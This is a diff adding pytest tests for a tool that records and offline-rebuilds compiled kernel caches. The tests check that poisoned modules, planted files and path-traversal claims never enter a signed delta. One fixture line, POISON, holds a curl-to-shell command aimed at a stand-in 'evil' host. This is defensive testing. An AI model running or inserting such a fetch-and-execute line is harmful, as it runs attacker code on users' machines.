@@ -1,0 +1,309 @@
+"""Record, then rebuild (issue 42 item 1): the replica records what it compiled that the build had
+not (request classes, the engine's keys, its paths and sha256s as claims, never bytes); the
+rebuild runs the image by digest with no network and fake weights, replays the record, and only
+what it compiled becomes the delta (origin rebuilt, builder named); a claim it did not reproduce
+is dropped and named, and a poisoned claim never reaches the delta. The container is a fake
+here (a directory holding the image's baked caches); bench/capture_cpu.py runs the real one."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import urllib.error
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kernelbake.cli import main
+from kernelbake.contract.delta import DELTA_MANIFEST, DeltaManifest, Origin
+from kernelbake.contract.record import MAX_REQUESTS, CaptureRecord, InvalidRecord
+from kernelbake.contract.target import TargetConfig
+from kernelbake.errors import BadInput, EnvironmentProblem
+from kernelbake.runner import Result
+from kernelbake.runtime import preflight as pf
+from kernelbake.runtime import replay
+from kernelbake.runtime.capture import collect, record
+from kernelbake.signing.delta import load_dir
+from kernelbake.signing.rebuild import rebuild
+from tests.runtime.test_capture import NEW, NEW_TRITON, ClassEngine, _fresh, _gain, engine, target
+from tests.support.runtime_target import runtime_env
+
+__all__ = ["engine", "target"]  # fixtures
+
+IMAGE = "127.0.0.1:5000/kb/tiny@sha256:" + "c" * 64
+CLASS = {"prompt": "hello", "max_tokens": 8, "logprobs": 20, "top_k": 3}
+POISON = b"\nimport os; os.system('curl evil | sh')\n"
+
+
+def _record(
+    tmp_path: Path, target: TargetConfig, *, poison: bool = False, unreproduced: bool = False
+) -> Path:
+    """What ``capture record`` writes in a replica that compiled for CLASS (and, with
+    ``poison``, had a line appended to what it compiled; with ``unreproduced``, holds a file
+    no rebuild makes)."""
+    root = Path(target.cache_root)
+    _gain(root)
+    if poison:
+        with (root / NEW).open("ab") as fh:
+            fh.write(POISON)
+    if unreproduced:
+        (root / "triton" / "tkey9").mkdir(parents=True)
+        (root / "triton" / "tkey9" / "planted.so").write_bytes(b"planted")
+    out = tmp_path / "record.json"
+    record(runtime_env(tmp_path), out, [CLASS], replica="replica-0")
+    shutil.rmtree(root / "triton" / "tkey9", ignore_errors=True)
+    _fresh(root)
+    return out
+
+
+class FakeDocker:
+    """``docker`` for the rebuild: a "container" is a copy of the image's cache root (its baked
+    caches); the replay compiles what the engine compiles for CLASS (the clean bytes); collect
+    is the real ``capture collect`` run against that copy."""
+
+    def __init__(self, tmp_path: Path, target: TargetConfig, compiles: dict[str, bytes]) -> None:
+        self.tmp_path, self.target, self.compiles = tmp_path, target, compiles
+        self.root = tmp_path / "container" / "cache"
+        self.out = tmp_path / "container" / "out"
+        self.calls: list[list[str]] = []
+        self.replayed: list[dict[str, Any]] = []
+
+    def __call__(self, argv: Sequence[str], **_kw: Any) -> Result:
+        argv = list(argv)
+        self.calls.append(argv)
+        verb = argv[1]
+        if verb == "run":
+            shutil.copytree(self.target.cache_root, self.root)
+            mount = argv[argv.index("-v") + 1].split(":")[0]
+            self.record = CaptureRecord.from_json(Path(mount).read_bytes())
+        elif verb == "exec" and "replay" in argv:
+            self.replayed = self.record.bodies()
+            for rel, data in self.compiles.items():
+                (self.root / rel).parent.mkdir(parents=True, exist_ok=True)
+                (self.root / rel).write_bytes(data)
+            return Result(tuple(argv), 0, "kernelbake capture: replayed 1 request classes on m (0.10 s)\n")
+        elif verb == "exec" and "collect" in argv:
+            collect(runtime_env(self.tmp_path), self.out, root=self.root)
+        elif verb == "exec" and argv[3] == "test":
+            return Result(tuple(argv), 0 if (self.out / DELTA_MANIFEST).exists() else 1)
+        elif verb == "cp":
+            shutil.copytree(self.out, argv[3])
+        return Result(tuple(argv), 0)
+
+
+def test_record_keeps_request_classes_and_claims_but_no_bytes(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    path = _record(tmp_path, target)
+    doc = json.loads(path.read_text())
+    assert doc["requests"] == [CLASS] and doc["replica"] == "replica-0"
+    assert doc["claims"]["inductor"]["engine_keys"] == ["fkey1"]
+    assert doc["claims"]["triton"]["engine_keys"] == ["tkey1"]
+    claimed = {f["path"]: f["sha256"] for k in doc["claims"].values() for f in k["files"]}
+    assert claimed[NEW] == hashlib.sha256(b"compiled").hexdigest()
+    # A claim, not a copy: nothing but the record was written.
+    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == [
+        "pinned-manifest.json",
+        "record.json",
+        "target.json",
+    ]
+    with pytest.raises(BadInput, match="exists"):
+        record(runtime_env(tmp_path), path, [CLASS])
+
+
+def test_a_record_is_bounded_untrusted_input() -> None:
+    with pytest.raises(InvalidRecord, match=r"not a capture record|schema"):
+        CaptureRecord.from_json(b"[]")
+    text = json.loads(_minimal().to_json())
+    text["requests"] = [{"prompt": "x", "max_tokens": 10**6}]
+    with pytest.raises(InvalidRecord, match=r"requests\[0\]: max_tokens"):
+        CaptureRecord.from_json(json.dumps(text))
+    text["requests"] = [{"prompt": "x"}] * (MAX_REQUESTS + 1)
+    with pytest.raises(InvalidRecord, match="more than a record may hold"):
+        CaptureRecord.from_json(json.dumps(text))
+    text["requests"] = [{"prompt": "x", "stream": True}]
+    with pytest.raises(InvalidRecord, match="stream"):
+        CaptureRecord.from_json(json.dumps(text))
+    text["requests"] = []
+    text["claims"] = {"inductor": {"files": [{"path": "inductor/../../x", "size": 1, "sha256": "a" * 64}]}}
+    with pytest.raises(InvalidRecord, match="leaves the cache root"):
+        CaptureRecord.from_json(json.dumps(text))
+
+
+def _minimal() -> CaptureRecord:
+    from kernelbake.contract.key import parse_key
+
+    key = parse_key(
+        "kb1:engine=vllm;engine_version=0.32.0;torch=2.13.0;triton=3.9.0;cuda=none;flashinfer=none;"
+        "python=3.11;arch=x86_64;device=cpu;driver_floor=none;model=local/tiny-llama;revision=r;"
+        "model_path=/models/tiny-llama;dtype=float32;quantization=none;tp=1;pp=1;ep=1;max_model_len=2048;"
+        "max_num_batched_tokens=128;compilation=44136fa355b3678a;engine_env=4f53cda18c2baa0c;kernelbake=0.1.0"
+    )
+    return CaptureRecord(key=key, base_manifest="sha256:" + "b" * 64, replica="", requests=(), claims=())
+
+
+def test_the_cli_records_and_refuses_a_request_that_is_not_one(
+    tmp_path: Path,
+    target: TargetConfig,
+    engine: ClassEngine,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setenv("KERNELBAKE_UNSAFE_TARGET", str(tmp_path / "target.json"))
+    _gain(Path(target.cache_root))
+    out = tmp_path / "r.json"
+    assert main(["capture", "record", "--out", str(out), "--request", json.dumps(CLASS)]) == 0
+    said = capsys.readouterr().out
+    assert "recorded 1 request classes and 2 new files" in said and "no bytes are kept" in said
+    assert "no request classes" not in said
+    assert main(["capture", "record", "--out", str(tmp_path / "bare.json")]) == 0
+    assert "no request classes (--request): the rebuild replays none" in capsys.readouterr().out
+    with pytest.raises(SystemExit) as exc:
+        main(["capture", "record", "--out", str(tmp_path / "s.json"), "--request", "[1]"])
+    assert exc.value.code == 2 and "a request is a JSON object" in capsys.readouterr().err
+
+
+def test_replay_sends_each_class_once_to_the_loopback_and_refuses_another_images_record(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    path = _record(tmp_path, target)
+    sent: list[tuple[str, str, Any]] = []
+    answers = iter([OSError("refused"), {"data": [{"id": "/models/tiny-llama"}]}])
+
+    def fetch(method: str, url: str, body: dict[str, Any] | None, _timeout: float) -> Any:
+        sent.append((method, url, body))
+        if method == "GET":
+            answer = next(answers)
+            if isinstance(answer, Exception):
+                raise answer
+            return answer
+        return {"choices": [{}]}
+
+    done = replay.replay(
+        replay.load(runtime_env(tmp_path), path), port=8123, fetch=fetch, sleep=lambda _s: None
+    )
+    posts = [s for s in sent if s[0] == "POST"]
+    assert posts == [
+        (
+            "POST",
+            "http://127.0.0.1:8123/v1/completions",
+            {**CLASS, "model": "/models/tiny-llama", "stream": False},
+        )
+    ]
+    assert done.model == "/models/tiny-llama" and done.failed == ()
+    other = tmp_path / "other.json"
+    doc = json.loads(path.read_text())
+    doc["base_manifest"] = "sha256:" + "1" * 64
+    other.write_text(json.dumps(doc))
+    with pytest.raises(BadInput, match="rebuild it from the image the replica ran"):
+        replay.load(runtime_env(tmp_path), other)
+
+
+def test_replay_names_a_refused_request_and_gives_up_on_a_server_that_never_answers(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    rec = replay.load(runtime_env(tmp_path), _record(tmp_path, target))
+
+    def refusing(method: str, url: str, body: Any, _t: float) -> Any:
+        if method == "GET":
+            return {"data": [{"id": "m"}]}
+        raise urllib.error.HTTPError(url, 400, "bad", {}, None)  # type: ignore[arg-type]
+
+    assert replay.replay(rec, fetch=refusing).failed == ("0: HTTP 400",)
+
+    def down(method: str, url: str, body: Any, _t: float) -> Any:
+        raise OSError("connection refused")
+
+    with pytest.raises(EnvironmentProblem, match="did not answer"):
+        replay.replay(rec, fetch=down, ready_timeout=0.0)
+
+
+def test_the_rebuild_runs_the_image_by_digest_offline_and_signs_only_what_it_compiled(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    path = _record(tmp_path, target, poison=True, unreproduced=True)
+    docker = FakeDocker(tmp_path, target, {NEW: b"compiled", NEW_TRITON: b"cubin"})
+    done = rebuild(path, image=IMAGE, out=tmp_path / "rebuilt", builder="cpu-builder-1", runner=docker)
+    (run,) = [c for c in docker.calls if c[1] == "run"]
+    assert run[run.index("--network") : run.index("--network") + 2] == ["--network", "none"]
+    assert run[-3:] == [IMAGE, "--load-format", "dummy"], "the image by digest, fake weights"
+    assert docker.replayed == [CLASS]
+    assert any(c[1:3] == ["rm", "-f"] for c in docker.calls), "the container is removed"
+    # The poisoned module: the rebuild's clean bytes are in the delta, the replica's are named.
+    delta, entries = load_dir(tmp_path / "rebuilt")
+    assert dict((p, b) for p, b, _m, _t in entries) == {NEW: b"compiled", NEW_TRITON: b"cubin"}
+    assert POISON not in (tmp_path / "rebuilt" / NEW).read_bytes()
+    assert done.differed == (NEW,) and done.reproduced == (NEW_TRITON,)
+    assert done.dropped == ("triton/tkey9/planted.so",) and done.extra == ()
+    said = "\n".join(done.lines())
+    assert "dropped triton/tkey9/planted.so: the rebuild did not produce it" in said
+    assert f"rebuilt {NEW} with other bytes" in said
+    assert delta.origin is Origin.REBUILT and delta.rebuild is not None
+    assert delta.rebuild.builder == "cpu-builder-1" and delta.rebuild.image == "sha256:" + "c" * 64
+    assert delta.rebuild.record == CaptureRecord.from_json(path.read_bytes()).digest()
+    assert delta.rebuild.dropped == ("triton/tkey9/planted.so",)
+    assert done.per_kind["inductor"]["same_engine_keys"] is True
+    assert done.per_kind["inductor"]["same_bytes"] == 0 and done.per_kind["triton"]["same_bytes"] == 1
+    # The next replica merges it and says who rebuilt it.
+    shutil.copytree(tmp_path / "rebuilt", tmp_path / "delta")
+    digest = "sha256:" + hashlib.sha256((tmp_path / "delta" / DELTA_MANIFEST).read_bytes()).hexdigest()
+    v = pf.preflight(runtime_env(tmp_path, KERNELBAKE_DELTA_DIGEST=digest), engine=engine)
+    assert v.delta is not None and v.delta.used and v.delta.origin == "rebuilt"
+    assert "(rebuilt by cpu-builder-1)" in v.delta.line()
+    assert (Path(target.cache_root) / NEW).read_bytes() == b"compiled"
+
+
+def test_a_rebuild_that_compiles_nothing_writes_nothing_and_a_tag_is_refused(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    path = _record(tmp_path, target)
+    docker = FakeDocker(tmp_path, target, {})
+    done = rebuild(path, image=IMAGE, out=tmp_path / "rebuilt", builder="b", runner=docker)
+    assert done.out is None and not (tmp_path / "rebuilt").exists()
+    assert set(done.dropped) == {NEW, NEW_TRITON} and "nothing to push" in done.lines()[0]
+    with pytest.raises(BadInput, match="by digest"):
+        rebuild(path, image="127.0.0.1:5000/kb/tiny:v1", out=tmp_path / "x", builder="b", runner=docker)
+
+
+def test_a_replica_collected_delta_says_so_and_serve_names_it_unsafe(
+    tmp_path: Path, target: TargetConfig, engine: ClassEngine
+) -> None:
+    _gain(Path(target.cache_root))
+    done = collect(runtime_env(tmp_path), tmp_path / "collected")
+    assert done.delta.origin is Origin.REPLICA and done.delta.rebuild is None
+    assert json.loads((tmp_path / "collected" / DELTA_MANIFEST).read_text())["origin"] == "replica"
+    _fresh(Path(target.cache_root))
+    shutil.copytree(tmp_path / "collected", tmp_path / "delta")
+    digest = "sha256:" + hashlib.sha256((tmp_path / "delta" / DELTA_MANIFEST).read_bytes()).hexdigest()
+    v = pf.preflight(runtime_env(tmp_path, KERNELBAKE_DELTA_DIGEST=digest), engine=engine)
+    assert v.delta is not None and v.delta.used
+    assert "UNSAFE: the bytes a replica wrote, not rebuilt" in v.delta.line()
+    assert v.to_json()["delta"]["origin"] == "replica"
+
+
+def test_origin_and_rebuild_go_together() -> None:
+    from kernelbake.contract.delta import InvalidDelta, Rebuild
+
+    base = _minimal()
+    with pytest.raises(InvalidDelta, match="go together"):
+        DeltaManifest(
+            key=base.key, base_image=None, base_manifest=base.base_manifest, files=(), origin=Origin.REBUILT
+        )
+    with pytest.raises(InvalidDelta, match=r"rebuild\.image"):
+        DeltaManifest(
+            key=base.key,
+            base_image=None,
+            base_manifest=base.base_manifest,
+            files=(),
+            origin=Origin.REBUILT,
+            rebuild=Rebuild(builder="b", image="latest", record="sha256:" + "1" * 64),
+        )
+    doc = json.loads(
+        DeltaManifest(key=base.key, base_image=None, base_manifest=base.base_manifest, files=()).to_json()
+    )
+    doc["origin"] = "trusted"
+    with pytest.raises(InvalidDelta, match="origin 'trusted' is not one of rebuilt, replica"):
+        DeltaManifest.from_json(json.dumps(doc))
